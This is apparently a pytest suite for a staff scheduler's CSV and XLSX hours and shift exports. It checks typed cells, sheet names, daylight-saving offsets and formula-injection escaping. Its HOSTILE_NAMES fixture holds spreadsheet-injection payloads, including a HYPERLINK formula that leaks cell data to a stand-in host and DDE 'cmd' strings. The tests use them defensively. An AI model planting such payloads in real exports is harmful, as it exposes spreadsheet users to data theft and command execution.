"""CSV and XLSX exports: typed cells payroll can sum, the same figures as the CSV."""

from __future__ import annotations

import csv
import io
import zipfile
from dataclasses import replace
from datetime import date, datetime

import pytest
from exports_builders import SITES, roster, scenario, shift, spec_example
from openpyxl import load_workbook

from scheduler.exports import hours_csv, hours_xlsx, shifts_csv, worked_hours
from scheduler.exports.spreadsheets import HOURS_COLUMNS, sheet_titles

HOURS_TITLES = [c.title for c in HOURS_COLUMNS]
NUMERIC_TITLES = (
    "Week",
    "Shifts",
    "Contract hours",
    "Worked hours",
    "Night hours",
    "Weekend hours",
    "Holiday hours",
)


@pytest.fixture
def example(spec_example_dir, spec_example_roster_dir):
    return spec_example(spec_example_dir, spec_example_roster_dir)


def test_hours_csv_has_one_line_per_agent_week_with_the_figures(example):
    sc, solved = example
    rows = worked_hours(sc, solved)

    lines = list(csv.DictReader(io.StringIO(hours_csv(rows))))

    assert len(lines) == len(rows)
    for line, r in zip(lines, rows, strict=True):
        assert line["agent_id"] == r.agent_id
        assert float(line["worked_hours"]) == r.worked_hours
        assert float(line["night_hours"]) == r.night_hours
        assert line["week_start"] == r.week_start.isoformat()


def test_shifts_csv_keeps_roster_instants_and_names(example, spec_example_roster_dir):
    sc, solved = example
    roster_lines = list(csv.DictReader((spec_example_roster_dir / "roster.csv").open()))

    lines = list(csv.DictReader(io.StringIO(shifts_csv(sc, solved))))

    key = ("agent_id", "site", "date", "shift", "start_utc", "end_utc", "start_local", "end_local")
    assert sorted(tuple(x[k] for k in key) for x in lines) == sorted(
        tuple(x[k] for k in key) for x in roster_lines
    )
    first = lines[0]
    assert first["agent_name"] == sc.agent(first["agent_id"]).name
    assert first["site_name"] == sc.site(first["site"]).name
    assert first["start_local"].endswith("+01:00")  # Dublin summer time, offset shown


def test_xlsx_has_a_typed_sheet_per_site_that_matches_the_csv(example):
    sc, solved = example
    workbook = load_workbook(io.BytesIO(hours_xlsx(sc, solved)))
    titles = sheet_titles(sc)
    csv_lines = list(csv.DictReader(io.StringIO(hours_csv(worked_hours(sc, solved)))))

    assert workbook.sheetnames == [titles[s.id] for s in sc.sites] + ["Shifts"]
    assert workbook.sheetnames[:2] == ["Toronto", "Dublin"]
    for site in sc.sites:
        sheet = workbook[titles[site.id]]
        header = [c.value for c in sheet[1]]
        assert header[:3] == ["Site", "Agent ID", "Agent"]
        assert sheet.freeze_panes == "A2"
        assert sheet.column_dimensions["C"].width > len("Agent")
        records = [
            dict(zip(header, values, strict=True))
            for values in sheet.iter_rows(2, values_only=True)
        ]
        expected = [line for line in csv_lines if line["site"] == site.id]
        assert len(records) == len(expected)
        for record, line in zip(records, expected, strict=True):
            for title in NUMERIC_TITLES:
                assert isinstance(record[title], int | float), (title, record[title])
            assert isinstance(record["Week start"], datetime)  # Excel dates read back so
            assert record["Week start"].date() == date.fromisoformat(line["week_start"])
            assert record["Worked hours"] == float(line["worked_hours"])
            assert record["Holiday hours"] == float(line["holiday_hours"])

    worked_column = HOURS_TITLES.index("Worked hours") + 1
    site_totals = sum(
        value
        for s in sc.sites
        for (value,) in workbook[titles[s.id]].iter_rows(
            2, min_col=worked_column, max_col=worked_column, values_only=True
        )
    )
    assert site_totals == pytest.approx(sum(float(line["worked_hours"]) for line in csv_lines))


def test_xlsx_shift_sheet_keeps_wall_clock_and_offset(example):
    sc, solved = example
    sheet = load_workbook(io.BytesIO(hours_xlsx(sc, solved)))["Shifts"]
    header = [c.value for c in sheet[1]]
    records = [dict(zip(header, v, strict=True)) for v in sheet.iter_rows(2, values_only=True)]

    assert len(records) == len(solved.assignments)
    first = min(solved.assignments, key=lambda a: (a.agent_id, a.start_utc))
    record = records[0]
    assert record["Agent ID"] == first.agent_id
    assert record["Hours"] == (first.end_utc - first.start_utc).total_seconds() / 3600
    assert record["Start (UTC)"] == first.start_utc.replace(tzinfo=None)
    assert record["Start (local)"] == first.start_local.replace(tzinfo=None)
    assert record["Start offset"] == first.start_local.isoformat()[-6:]


def test_dst_night_shows_different_offsets_at_start_and_end():
    sc = scenario(date(2027, 10, 25), sites=(SITES["dub"],))
    night = shift(sc, "DUB", date(2027, 10, 30), "night")
    sheet = load_workbook(io.BytesIO(hours_xlsx(sc, roster([night]))))["Shifts"]
    header = [c.value for c in sheet[1]]
    (record,) = [dict(zip(header, v, strict=True)) for v in sheet.iter_rows(2, values_only=True)]

    assert (record["Start offset"], record["End offset"]) == ("+01:00", "+00:00")
    assert record["Hours"] == 9
    assert record["End (local)"] == datetime(2027, 10, 31, 7, 0)


def test_sheet_titles_are_legal_and_unique_in_excel():
    long_name = SITES["ber"].__class__(
        **{**SITES["ber"].__dict__, "name": "Berlin: Customer Care [Tier 2] / night team"}
    )
    twin = SITES["muc"].__class__(**{**SITES["muc"].__dict__, "name": "Shifts"})
    titles = sheet_titles(scenario(date(2027, 6, 7), sites=(long_name, twin)))

    assert all(len(t) <= 31 and not set(t) & set("[]:*?/\\") for t in titles.values())
    assert titles["muc"] != "Shifts"
    assert len(set(titles.values())) == 2


HOSTILE_NAMES = {
    "DUB": '=HYPERLINK("https://evil.example/?leak="&A1,"Payslip")',
    "BER": "+1+cmd|' /C calc'!A0",
    "MUC": "-2+3",
    "TYO": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _hostile_scenario(names: dict[str, str]):
    sc = scenario(date(2027, 6, 7))
    agents = tuple(replace(a, name=names.get(a.id, a.name)) for a in sc.agents)
    return replace(sc, agents=agents)


def _early_shifts(sc):
    return roster([shift(sc, a.id, date(2027, 6, 7), "early") for a in sc.agents])


def test_xlsx_writes_names_that_look_like_formulas_as_text_and_reads_them_back():
    names = {**HOSTILE_NAMES, "TYO": "\tTab name"}
    sc = _hostile_scenario(names)
    data = hours_xlsx(sc, _early_shifts(sc))
    workbook = load_workbook(io.BytesIO(data))

    for sheet in workbook.worksheets:
        for row in sheet.iter_rows(2):
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
    by_agent = {
        row[0].value: row[1] for row in workbook["Shifts"].iter_rows(2) if row[0].value in names
    }
    assert {agent: cell.value for agent, cell in by_agent.items()} == names
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in by_agent.values())
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(name) for name in sheets)


@pytest.mark.parametrize("name", [*HOSTILE_NAMES.values(), "\tTab name", "\rCR name"])
def test_csv_exports_put_an_apostrophe_before_text_that_starts_a_formula(name):
    sc = _hostile_scenario({"DUB": name})
    solved = _early_shifts(sc)

    hours_lines = list(csv.DictReader(io.StringIO(hours_csv(worked_hours(sc, solved)))))
    shift_lines = list(csv.DictReader(io.StringIO(shifts_csv(sc, solved))))

    assert {line["agent_name"] for line in hours_lines if line["agent_id"] == "DUB"} == {"'" + name}
    assert {line["agent_name"] for line in shift_lines if line["agent_id"] == "DUB"} == {"'" + name}


def test_csv_exports_leave_ordinary_text_and_numbers_alone():
    sc = _hostile_scenario({"DUB": "Seán O'Neill-Byrne"})
    solved = _early_shifts(sc)

    (line,) = [
        x for x in csv.DictReader(io.StringIO(shifts_csv(sc, solved))) if x["agent_id"] == "DUB"
    ]

    assert line["agent_name"] == "Seán O'Neill-Byrne"
    assert line["hours"] == "8.0"
    assert line["start_local"].startswith("2027-06-07T07:00")
